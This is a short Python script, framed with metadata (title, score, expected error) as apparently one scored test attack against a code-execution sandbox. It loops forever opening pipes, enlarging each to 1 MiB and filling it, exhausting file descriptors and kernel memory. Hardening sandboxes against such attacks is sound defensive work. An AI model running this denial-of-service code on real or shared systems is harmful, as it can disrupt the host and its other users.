# /// attack
# title = "fills as many pipes as it can get"
# score = 100
# says = ["OSError: “[Errno 24] Too many open files"]
# then_right = true
# ///
import fcntl
import os

while True:
    _, end = os.pipe()
    os.set_blocking(end, False)
    try:
        fcntl.fcntl(end, fcntl.F_SETPIPE_SZ, 2**20)
    except PermissionError:
        pass
    os.write(end, bytes(2**20))
